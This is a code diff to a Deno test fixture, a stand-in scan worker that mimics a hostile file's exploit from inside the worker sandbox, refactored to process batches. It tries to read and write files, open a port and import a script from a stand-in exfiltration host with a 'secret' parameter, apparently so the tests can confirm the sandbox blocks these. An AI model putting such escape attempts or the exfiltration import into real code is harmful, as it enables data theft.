@@ -1,7 +1,9 @@
 /// <reference lib="deno.worker" />
 // A stand-in scan worker for the pool tests: it tries what a hostile file's
 // exploit would try from inside a scan worker, and reports what happened.
-import type { WorkerRequest } from "../../engine/worker.ts";
+import type { SourceScanOutcome } from "../../engine/dispatch.ts";
+import type { FileTask } from "../../engine/scan_file.ts";
+import { markStarted, type WorkerRequest } from "../../engine/worker_protocol.ts";
 
 async function attempt(action: () => Promise<unknown>): Promise<string> {
   try {
@@ -14,15 +16,12 @@ async function attempt(action: () => Promise<unknown>): Promise<string> {
   }
 }
 
-self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
-  const { id, task } = event.data;
+async function probe(task: FileTask, batchSize: number): Promise<SourceScanOutcome> {
   const [mode, ...args] = task.path.split("|");
+  if (mode === "batch") return { format: "probe", findings: [], error: `batch of ${batchSize}` };
   if (mode === "throw") throw new Error("probe exploded");
   if (mode === "hang") { for (;;) { /* spin until terminated */ } }
-  if (mode === "ok") {
-    self.postMessage({ id, outcome: { format: "probe", findings: [] } });
-    return;
-  }
+  if (mode === "ok") return { format: "probe", findings: [] };
   const [outside, writeTarget, port] = args;
   const results = {
     readTarget: await attempt(() => Deno.readFile(task.realPath)),
@@ -36,5 +35,14 @@ self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
     // deno-lint-ignore no-import-prefix
     remoteImport: await attempt(() => import("https://modelaudit.invalid/exfiltrate.js?secret=1")),
   };
-  self.postMessage({ id, outcome: { format: "probe", findings: [], error: JSON.stringify(results) } });
+  return { format: "probe", findings: [], error: JSON.stringify(results) };
+}
+
+self.onmessage = async (event: MessageEvent<WorkerRequest>) => {
+  const outcomes = [];
+  for (const [index, task] of event.data.tasks.entries()) {
+    markStarted(event.data, index);
+    outcomes.push(await probe(task, event.data.tasks.length));
+  }
+  self.postMessage({ id: event.data.id, outcomes });
 };
